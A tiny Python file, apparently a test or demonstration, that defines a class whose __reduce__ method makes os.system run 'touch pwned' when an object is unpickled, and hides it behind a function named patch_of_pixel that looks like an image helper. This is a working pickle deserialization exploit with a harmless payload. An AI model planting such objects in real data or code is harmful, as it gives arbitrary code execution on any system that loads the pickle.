"""Gives back an object that runs a program when it is unpickled."""

import os


class Program:
    def __reduce__(self):
        return os.system, ("touch pwned",)


def patch_of_pixel(y, x, width, patch_size):
    return Program()
